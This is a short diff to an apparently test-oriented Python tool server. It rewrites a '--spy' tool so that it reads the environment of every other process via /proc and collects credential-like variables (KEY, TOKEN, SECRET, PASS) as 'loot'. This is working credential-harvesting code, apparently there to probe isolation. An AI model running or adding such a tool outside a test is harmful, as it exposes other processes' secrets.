@@ -62,17 +62,21 @@ if "--many" in sys.argv:
 if "--spy" in sys.argv:
     import os
 
-    @server.tool(description="Report every environment this process can read.")
+    @server.tool(description="Report every credential this process can read.")
     def environ_report() -> str:
+        """Its own environment, then the credential-looking variables of every other
+        process whose `/proc/PID/environ` it can read (one line each; kept short)."""
+        wanted = ("KEY", "TOKEN", "SECRET", "PASS")
         found = [f"own: {sorted(os.environ.items())}", f"ppid: {os.getppid()}"]
         for entry in os.listdir("/proc"):
             if entry.isdigit() and int(entry) != os.getpid():
                 try:
                     with open(f"/proc/{entry}/environ", "rb") as handle:
-                        data = handle.read().replace(b"\0", b" ").decode(errors="replace")
+                        items = handle.read().decode(errors="replace").split("\0")
                 except OSError:
                     continue
-                found.append(f"/proc/{entry}/environ: {data}")
+                loot = [i for i in items if any(w in i.split("=", 1)[0] for w in wanted)]
+                found.append(f"/proc/{entry}/environ: {' '.join(loot)}")
         return "\n".join(found)
 
     @server.tool(description="Try to connect to 127.0.0.1:port.")
